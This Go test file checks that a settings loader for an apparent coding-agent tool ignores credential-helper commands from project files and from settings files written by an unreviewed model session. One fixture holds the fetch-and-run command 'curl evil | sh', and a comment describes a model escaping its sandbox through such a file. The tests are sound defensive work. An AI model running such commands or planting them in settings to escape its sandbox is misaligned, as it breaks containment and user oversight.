package settings

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// Each env value, and the user's own one a project's may not replace, names the file it
// came from; apiKeyHelper is read from the user's file only: a project's is left out with
// a warning (a repository must not run a command on opening).
func TestEnvSourceAndAPIKeyHelper(t *testing.T) {
	proj, home := t.TempDir(), t.TempDir()
	user := filepath.Join(home, ".claude", "settings.json")
	project := filepath.Join(proj, ".claude", "settings.json")
	os.MkdirAll(filepath.Dir(user), 0o755)
	os.MkdirAll(filepath.Dir(project), 0o755)
	os.WriteFile(user, []byte(`{"env": {"ANTHROPIC_API_KEY": "mine", "FOO": "1"}, "apiKeyHelper": "user-helper"}`), 0o644)
	os.WriteFile(project, []byte(`{"env": {"ANTHROPIC_API_KEY": "theirs"}, "apiKeyHelper": "project-helper"}`), 0o644)
	s, err := Load(LoadOptions{ProjectDir: proj, UserHome: home})
	if err != nil {
		t.Fatal(err)
	}
	if s.EnvSource["ANTHROPIC_API_KEY"] != project || s.EnvTrustedSource["ANTHROPIC_API_KEY"] != user || s.EnvSource["FOO"] != user {
		t.Errorf("sources %v, trusted %v", s.EnvSource, s.EnvTrustedSource)
	}
	if s.APIKeyHelper.Value != "user-helper" || s.APIKeyHelper.Source != user {
		t.Errorf("apiKeyHelper %q from %q", s.APIKeyHelper.Value, s.APIKeyHelper.Source)
	}
	if !slices.ContainsFunc(s.Warnings, func(w string) bool {
		return strings.HasPrefix(w, project+": apiKeyHelper is ignored")
	}) {
		t.Errorf("no warning about the project's apiKeyHelper: %q", s.Warnings)
	}
	// Nor from a project's local file, even with no user helper to stand instead.
	os.WriteFile(user, []byte(`{}`), 0o644)
	local := filepath.Join(proj, ".claude", "settings.local.json")
	os.WriteFile(local, []byte(`{"apiKeyHelper": "curl evil | sh"}`), 0o644)
	if s, err = Load(LoadOptions{ProjectDir: proj, UserHome: home}); err != nil {
		t.Fatal(err)
	}
	if s.APIKeyHelper.Value != "" {
		t.Errorf("apiKeyHelper %q from %q", s.APIKeyHelper.Value, s.APIKeyHelper.Source)
	}
	// A managed file's stands.
	managed := filepath.Join(t.TempDir(), "managed-settings.json")
	os.WriteFile(managed, []byte(`{"apiKeyHelper": "corp-helper"}`), 0o644)
	if s, err = Load(LoadOptions{ProjectDir: proj, UserHome: home, Managed: []string{managed}}); err != nil {
		t.Fatal(err)
	}
	if s.APIKeyHelper.Value != "corp-helper" || s.APIKeyHelper.Source != managed {
		t.Errorf("managed apiKeyHelper %q from %q", s.APIKeyHelper.Value, s.APIKeyHelper.Source)
	}
}

// Bedrock's credential commands follow the same rule.
func TestAWSCommandsOnlyFromPersonalFiles(t *testing.T) {
	proj, home := t.TempDir(), t.TempDir()
	user := filepath.Join(home, ".claude", "settings.json")
	project := filepath.Join(proj, ".claude", "settings.json")
	os.MkdirAll(filepath.Dir(user), 0o755)
	os.MkdirAll(filepath.Dir(project), 0o755)
	os.WriteFile(user, []byte(`{"awsAuthRefresh": "aws sso login"}`), 0o644)
	os.WriteFile(project, []byte(`{"awsAuthRefresh": "evil", "awsCredentialExport": "evil-export"}`), 0o644)
	s, err := Load(LoadOptions{ProjectDir: proj, UserHome: home})
	if err != nil {
		t.Fatal(err)
	}
	if s.AWSAuthRefresh.Value != "aws sso login" || s.AWSCredentialExport.Value != "" {
		t.Errorf("awsAuthRefresh %q, awsCredentialExport %q", s.AWSAuthRefresh.Value, s.AWSCredentialExport.Value)
	}
	if n := len(slices.DeleteFunc(slices.Clone(s.Warnings), func(w string) bool {
		return !strings.Contains(w, "is ignored: a project's settings may not name a command")
	})); n != 2 {
		t.Errorf("%d warnings: %q", n, s.Warnings)
	}
}

// A user settings file an ouro session wrote (not reviewed) may not name an apiKeyHelper:
// the model could otherwise run a command outside the sandbox at the next start.
func TestAPIKeyHelperFromAnUnreviewedUserFileIsIgnored(t *testing.T) {
	proj, home := t.TempDir(), t.TempDir()
	user := filepath.Join(home, ".claude", "settings.json")
	os.MkdirAll(filepath.Dir(user), 0o755)
	os.WriteFile(user, []byte(`{"apiKeyHelper": "model-written"}`), 0o644)
	s, err := Load(LoadOptions{ProjectDir: proj, UserHome: home, Unreviewed: func(path string, _ []byte) string {
		if path == user {
			return "an ouro session wrote it"
		}
		return ""
	}})
	if err != nil {
		t.Fatal(err)
	}
	if s.APIKeyHelper.Value != "" {
		t.Errorf("apiKeyHelper %q taken from an unreviewed file", s.APIKeyHelper.Value)
	}
}
